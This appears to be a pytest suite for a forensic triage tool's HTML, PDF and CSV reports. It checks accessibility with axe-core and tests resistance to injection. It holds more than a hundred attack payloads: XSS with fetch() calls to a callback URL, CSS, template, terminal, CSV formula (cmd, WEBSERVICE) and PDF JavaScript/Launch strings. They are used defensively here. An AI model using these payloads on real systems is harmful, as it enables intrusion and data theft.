"""report.html in a real browser: no barrier that axe-core knows of, nothing different without scripts, and no text of evidence that acts."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable
from html import unescape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pypdfium2
import pytest

from triage.report import document, html, pdf, write_reports
from triage.report.case import load

pytestmark = [pytest.mark.tools, pytest.mark.slow]
PRODUCT = "62615533"  # 7919 × 7907: it stands in the page only where a template was run
Browse = Callable[..., subprocess.CompletedProcess[bytes]]
_META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


def _case(makers: SimpleNamespace, tmp_path: Path, name: str) -> str:
    return html.render(document.build(load(getattr(makers, name)(tmp_path / name))))


# --- accessible ------------------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
    """axe-core's source: the file that TRIAGE_AXE names, the newest from the npm registry, or the one in the package axe-core-python."""
    named = os.environ.get("TRIAGE_AXE")
    if named:
        return Path(named).read_text("utf-8")
    folder = tmp_path_factory.mktemp("axe")
    if shutil.which("npm"):
        packed = subprocess.run(["npm", "pack", "--silent", "axe-core@4"], cwd=folder, capture_output=True, text=True, timeout=120)
        for file in folder.glob("axe-core-*.tgz"):
            shutil.unpack_archive(file, folder, filter="data")
            return (folder / "package" / "axe.min.js").read_text("utf-8")
        print(packed.stderr, file=sys.stderr)
    found = importlib.util.find_spec("axe_core_python")
    if found is None or found.origin is None:
        pytest.skip("axe-core cannot be had: no TRIAGE_AXE, no npm, no package axe-core-python")
    return Path(found.origin).with_name("axe.min.js").read_text("utf-8")


def _violations(browse: Browse, page: str, axe: str, tmp_path: Path, *options: str) -> list[Any]:
    run = (
        "axe.run(document, {resultTypes: ['violations']}).then(r => document.documentElement.setAttribute('data-axe',"
        "JSON.stringify([r.passes.length, r.violations.map(v => [v.id, v.impact, v.nodes.slice(0, 3).map(n => n.html.slice(0, 200))])])))"
    )
    file = tmp_path / "axe.html"
    file.write_text(_META.sub("", page, count=1).replace("</body>", f"<script>{axe}</script><script>{run}</script></body>"), "utf-8")
    done = browse(file, tmp_path / "profile", "--virtual-time-budget=60000", "--dump-dom", *options)
    match = re.search(r'data-axe="([^"]*)"', done.stdout.decode("utf-8"))
    assert match, "axe-core did not run"
    passes, violations = json.loads(unescape(match[1]))
    assert passes > 15
    return list(violations)


@pytest.mark.parametrize("size", ["390,800", "1280,900"])
@pytest.mark.parametrize("name", ["found", "referred", "hostile"])
def test_axe_finds_no_barrier(makers: SimpleNamespace, browse: Browse, tmp_path: Path, axe: str, name: str, size: str) -> None:
    assert _violations(browse, _case(makers, tmp_path, name), axe, tmp_path, f"--window-size={size}") == []


def test_axe_would_find_one(makers: SimpleNamespace, browse: Browse, tmp_path: Path, axe: str) -> None:
    page = _case(makers, tmp_path, "clean").replace('<html lang="en-GB">', "<html>").replace("</main>", '<img src="data:,"></main>')
    found = {violation[0] for violation in _violations(browse, page, axe, tmp_path)}
    assert {"html-has-lang", "image-alt"} <= found


def _without_scripts(profile: Path) -> Path:
    """A profile in which scripts are switched off."""
    settings = profile / "Default" / "Preferences"
    settings.parent.mkdir(parents=True)
    settings.write_text(json.dumps({"profile": {"default_content_setting_values": {"javascript": 2}}}), "utf-8")
    return profile


def test_nothing_is_different_without_scripts(makers: SimpleNamespace, browse: Browse, tmp_path: Path) -> None:
    page = _case(makers, tmp_path, "found")
    scripted = _META.sub("", page, count=1).replace("<h1>", "<script>document.write('<h1>With scripts</h1>')</script><h1>")
    pictures = {}
    for kind, text in (("page", page), ("control", scripted)):
        file = tmp_path / f"{kind}.html"
        file.write_text(text, "utf-8")
        for scripts in (True, False):
            profile = tmp_path / f"{kind}{scripts}"
            picture = tmp_path / f"{kind}{scripts}.png"
            browse(file, profile if scripts else _without_scripts(profile), "--window-size=1200,6000", f"--screenshot={picture}")
            pictures[kind, scripts] = picture.read_bytes()
    assert pictures["page", True] == pictures["page", False] and len(pictures["page", True]) > 50_000
    assert pictures["control", True] != pictures["control", False], "scripts were not switched off"


# --- injection -------------------------------------------------------------------------------------------------------------------------

_ACTS = "fetch('{url}');document.title='owned'"
HTML_PAYLOADS = [
    "<script>{act}</script>", "<ScRiPt>{act}</sCrIpT>", "<script src={url}></script>", "<img src=x onerror={act}>", "<img src={url}>", "<svg onload={act}>",
    "<svg><script>{act}</script></svg>", "<svg/onload={act}//", "<body onload={act}>", "<iframe src={url}></iframe>", "<iframe srcdoc='<script>{act}</script>'>",
    "<object data={url}></object>", "<embed src={url}>", "<link rel=stylesheet href={url}>", "<link rel=prefetch href={url}>", "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>", "<form action={url}><input autofocus onfocus={act}></form>", "<video src={url} onerror={act}></video>", "<audio src={url}>",
    "<details open ontoggle={act}>", "<marquee onstart={act}>", "<input autofocus onfocus={act}>", "<a href=javascript:{act}>x</a>", "<a href=\"data:text/html,<script>{act}</script>\">x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={act}>", "<noscript><p title=\"</noscript><img src=x onerror={act}>\">", "<template><script>{act}</script></template>",
    "<!--<img src=\"--><img src=x onerror={act}//\">", "<![CDATA[<script>{act}</script>]]>", "</title><script>{act}</script>", "</style><script>{act}</script>", "</bdi></main></body></html><script>{act}</script>",
    "\"><script>{act}</script>", "'><script>{act}</script>", "\" onmouseover={act} x=\"", "' onfocus='{act}' autofocus x='", "`><script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;", "&#60;script&#62;{act}&#60;/script&#62;", "\\u003cscript\\u003e{act}\\u003c/script\\u003e", "%3Cscript%3E{act}%3C/script%3E",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-", "<scr\x00ipt>{act}</scr\x00ipt>", "<img\x0csrc=x\x0conerror={act}>", "<x onclick={act} tabindex=1 autofocus>",
]  # fmt: skip
CSS_PAYLOADS = [
    "<style>*{{display:none}}</style>", "<style>@import url({url});</style>", "<p style='background:url({url})'>", "*/ }} body {{ background: url({url}) }} /*", "}} @import url({url}); {{",
    "\"; }} @page {{ @top-left {{ content: url({url}) }} }} a {{ b: \"", "\\22 ; }} * {{ visibility: hidden }}", "expression({act})", "</style><style>h1{{color:transparent}}</style>", "url({url})",
]  # fmt: skip
TEMPLATE_PAYLOADS = [
    "{{{{7919*7907}}}}", "{{% print(7919*7907) %}}", "{{{{ config }}}}", "{{{{ self.__init__.__globals__ }}}}", "{{% include '/etc/passwd' %}}", "{{% extends '/etc/passwd' %}}", "${{7919*7907}}",
    "#{{7919*7907}}", "<%= 7919*7907 %>", "{{{{ ''.__class__.__mro__ }}}}", "{{7919*7907}}", "{{0.__class__}}", "%(passwd)s %s %n", "{{# comment #}}{{{{7919*7907}}}}",
]  # fmt: skip
TERMINAL_PAYLOADS = [
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;{url}\x1b\\link\x1b]8;;\x1b\\", "\x1b[8mhidden", "\x9b31m", "\x1bc", "\rNothing found", "a\x08\x08\x08b", "\x1b]52;c;b3duZWQ=\x07", "\u202etxt.exe", "\u2066\u2069\u200b\u2060",
    "\x0e\x0f", "\u2028\u2029", "\U000e0041\U000e0042",
]  # fmt: skip
CSV_PAYLOADS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"{url}\",\"x\")", "=WEBSERVICE(\"{url}\")", "\t=1+1", "\r=1+1", "＝1+1", "  =1+1", "\",=1+1,\"", "\n=IMPORTXML(\"{url}\",\"//a\")",
]  # fmt: skip
PDF_PAYLOADS = [
    ") Tj /URI ({url}) (", "endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>", "<< /OpenAction << /S /Launch /F (calc) >> >>", "%%EOF\n%PDF-1.4", "EMC /Artifact BMC", "<a href='{url}'>x</a>",
    "<img src='{url}'/>", "<font name='nosuch'>x</font>", "<onDraw name='x'/>", "<para backColor='red'>x", "\\) Tj ET Q", "<b><i></b></i>", "<seq id='x'/>", "<link destination='x'>y</link>",
]  # fmt: skip
ALL_PAYLOADS = [*HTML_PAYLOADS, *CSS_PAYLOADS, *TEMPLATE_PAYLOADS, *TERMINAL_PAYLOADS, *CSV_PAYLOADS, *PDF_PAYLOADS]


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.title = ""
        self.attributes: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.fixture(scope="module")
def hits() -> Any:
    """A server that nothing may call: its address, and the calls that came."""
    calls: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            calls.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            return

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield SimpleNamespace(url=f"http://127.0.0.1:{server.server_port}/x", calls=calls)
    server.shutdown()
    server.server_close()


def _payloads(url: str) -> list[str]:
    act = _ACTS.format(url=url)
    return [text.format(url=url, act=act) for text in ALL_PAYLOADS]


def _attacked(makers: SimpleNamespace, folder: Path, texts: list[str]) -> Path:
    """A case in which every payload stands in every field that a person or evidence can fill."""
    visit = {
        **makers.VISIT,
        "reference": texts[0],
        "officer": {"name": texts[1], "number": texts[2], "force": texts[3]},
        "subject": {"reference": texts[4]},
        "authority": {"basis": "order", "reference": texts[5]},
        "conditions": [{"id": text[:60], "text": text, "checks": ["keep_history"]} for text in texts],
    }
    maker = makers.Maker(folder).open(
        visit, profile={text: text for text in texts[:40]}, arguments=texts, hash_sets=[{"name": text} for text in texts]
    )
    maker.source(path=texts[6], facts={text: text for text in texts}, files=texts)
    from artefacts import observations as o
    from artefacts.times import Timestamp

    for number, text in enumerate(texts):
        at = Timestamp(makers.T0 + number * makers.DAY)
        maker.volume(id=f"v{number + 2}", label=text, filesystem=text, description=text, reason=text)
        maker.observe(o.PageVisit(url=text, title=text, time=at, browser=text, user=text, locator=text), path=text)
        maker.observe(o.SystemFact(name=text, value=text), path=text)
        maker.observe(o.GoneFile(path=text, where=text, how=(text,), matches=(text,)))
        maker.observe(o.CleanupSign(kind=text, strength="weak", detail=text, tool=text, last=at))
        maker.observe(
            o.Device(kind="phone", title=text, identifiers=(text,), first=at, last=at, why=text, note=text, question=text, innocent=text)
        )
        maker.observe(
            o.Software(
                software=text,
                name=text,
                what=text,
                category=text,
                state="present",
                summary=text,
                severity=3,
                why=text,
                strength="weak",
                innocent=text,
            )
        )
        maker.add("finding", **makers.finding(number, title=text, category=text, explanation=text, innocent_explanations=[text], bears_on=["keep_history"], path=text, context=text, user=text, locator=text, rule=text))  # fmt: skip
        maker.cover(text, "failed", 1, reason=text, path=text)
        maker.add("error", where=text, reason=text)
        maker.add("touch", what=text, why=text)
        maker.add("operator", action=text, text=text)
    return Path(maker.finish())


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(ALL_PAYLOADS)) == len(ALL_PAYLOADS) >= 100


def test_no_payload_has_an_effect(makers: SimpleNamespace, browse: Browse, tmp_path: Path, hits: Any) -> None:
    case = _attacked(makers, tmp_path / "c", _payloads(hits.url))
    write_reports(case)
    page = (case / "report.html").read_text("utf-8")
    done = browse(case / "report.html", tmp_path / "profile", "--virtual-time-budget=8000", "--dump-dom")
    wanted, got = _Tags(page), _Tags(done.stdout.decode("utf-8"))
    assert got.tags == wanted.tags and not set(got.tags) & {
        "script",
        "iframe",
        "img",
        "object",
        "embed",
        "form",
        "input",
        "base",
        "template",
    }
    assert not {name for name in got.attributes if name.startswith("on")} and got.attributes == wanted.attributes
    assert "<title>owned" not in done.stdout.decode("utf-8") and PRODUCT not in page and "root:x:0" not in page
    assert b"Content Security Policy" not in done.stderr and b"Refused" not in done.stderr
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\U000e0000-\U000e0fff]", page)
    assert hits.calls == []


def test_no_payload_has_an_effect_even_without_the_policy(makers: SimpleNamespace, browse: Browse, tmp_path: Path, hits: Any) -> None:
    page = html.render(document.build(load(_attacked(makers, tmp_path / "c", _payloads(hits.url)))))
    file = tmp_path / "open.html"
    file.write_text(_META.sub("", page, count=1), "utf-8")
    done = browse(file, tmp_path / "profile", "--virtual-time-budget=8000", "--dump-dom")
    assert hits.calls == [] and b"<title>owned" not in done.stdout
    assert _Tags(done.stdout.decode("utf-8")).tags[5:] == _Tags(page).tags[6:]


def test_the_server_would_hear_a_payload(browse: Browse, tmp_path: Path, hits: Any) -> None:
    file = tmp_path / "bad.html"
    file.write_text(f"<title>t</title><img src={hits.url}-control><script>document.title='owned'</script>", "utf-8")
    done = browse(file, tmp_path / "profile", "--virtual-time-budget=8000", "--dump-dom")
    assert any(call.endswith("-control") for call in hits.calls) and b"<title>owned" in done.stdout
    hits.calls.clear()


def test_no_payload_has_an_effect_in_the_pdf_and_the_timeline(
    makers: SimpleNamespace, tmp_path: Path, hits: Any, inert: Callable[[bytes], None]
) -> None:
    texts = _payloads(hits.url)
    case = _attacked(makers, tmp_path / "c", texts)
    data = pdf.render(document.build(load(case)))
    with pypdfium2.PdfDocument(data) as opened:
        shown = " ".join(page.get_textpage().get_text_range() for page in opened)
    assert PRODUCT not in shown and "7919*7907" in shown
    inert(data)
    write_reports(case)
    text = (case / "timeline.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > len(texts)
    for row in rows:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
    assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", text)
